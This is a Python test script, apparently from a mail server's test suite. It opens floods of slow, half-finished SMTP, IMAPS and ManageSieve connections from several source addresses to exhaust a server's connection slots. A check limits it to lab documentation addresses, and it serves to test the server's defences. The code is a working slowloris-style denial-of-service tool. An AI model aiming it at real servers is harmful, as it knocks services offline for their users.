"""Open more connections than a server has room for, from several addresses, until ended.

It runs in a network namespace that has the addresses (`tests.lab.network`), and attacks nothing outside of the lab's
addresses:

    python3 -m tests.attacks.connections --each 50 --from 203.0.113.101 --from 203.0.113.102 203.0.113.10 25 465
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import ipaddress
import itertools
import resource
from collections.abc import Awaitable, Callable, Iterator

LAB = (ipaddress.ip_network("203.0.113.0/24"), ipaddress.ip_network("2001:db8::/32"))
TLS_AT_ONCE = (465, 993)
STARTTLS = {25: b"EHLO a.test\r\nSTARTTLS\r\n", 587: b"EHLO a.test\r\nSTARTTLS\r\n", 4190: b"STARTTLS\r\n"}
HALF_A_COMMAND = {25: b"EHLO a.te", 587: b"EHLO a.te", 465: b"", 993: b"", 4190: b'AUTHENTICATE "PL'}
BEGUN_HANDSHAKE = b"\x16\x03\x01\x02\x00\x01\x00"
PAUSE = 0.2  # seconds between two connections of one place
Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Behaviour = Callable[[int, asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def hold(port: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Say nothing until the server closes the connection."""
    while await reader.read(1000):
        pass


async def come_again(port: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Close the connection at the greeting, or where the client speaks first after a second."""
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(reader.read(1), 1 if port in TLS_AT_ONCE else 60)


async def shake_hands_slowly(port: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Begin TLS, and go on with a byte every few seconds."""
    if port not in TLS_AT_ONCE:
        await reader.readline()
        writer.write(STARTTLS[port])
    writer.write(BEGUN_HANDSHAKE)
    await _drip(reader, writer, b"\x01")


async def half_a_command(port: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Begin a command, and go on with a byte every few seconds."""
    writer.write(HALF_A_COMMAND[port])
    await _drip(reader, writer, b"x")


async def _drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, drop: bytes) -> None:
    while True:
        with contextlib.suppress(TimeoutError):
            if not await asyncio.wait_for(reader.read(1000), 3):
                return
        writer.write(drop)
        await writer.drain()


BEHAVIOURS: tuple[Behaviour, ...] = (hold, come_again, shake_hands_slowly, half_a_command)


async def _place(target: str, port: int, source: str, behaviour: Behaviour) -> None:
    """Have one connection after the other."""
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(target, port, local_addr=(source, 0))
            try:
                await behaviour(port, reader, writer)
            finally:
                writer.close()
        await asyncio.sleep(PAUSE)


async def attack(target: str, ports: list[int], sources: list[str], each: int) -> None:
    """Have `each` connections from every source to every port; the behaviours take turns."""
    turns: Iterator[Behaviour] = itertools.cycle(BEHAVIOURS)
    await asyncio.gather(*(_place(target, port, source, next(turns))
                           for _ in range(each) for source in sources for port in ports))


def must_be_of_the_lab(parser: argparse.ArgumentParser, target: str) -> None:
    """End the program if the address is not one of the lab's."""
    if not any(ipaddress.ip_address(target) in network for network in LAB):
        parser.error(f"{target} is not an address of the lab")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--each", type=int, default=50, help="connections from each address to each port")
    parser.add_argument("--from", dest="sources", action="append", required=True, help="an address to come from")
    parser.add_argument("target")
    parser.add_argument("ports", type=int, nargs="+")
    given = parser.parse_args()
    must_be_of_the_lab(parser, given.target)
    needed = 100 + given.each * len(given.sources) * len(given.ports)
    resource.setrlimit(resource.RLIMIT_NOFILE, (needed, max(needed, resource.getrlimit(resource.RLIMIT_NOFILE)[1])))
    asyncio.run(attack(given.target, given.ports, given.sources, given.each))


if __name__ == "__main__":
    main()
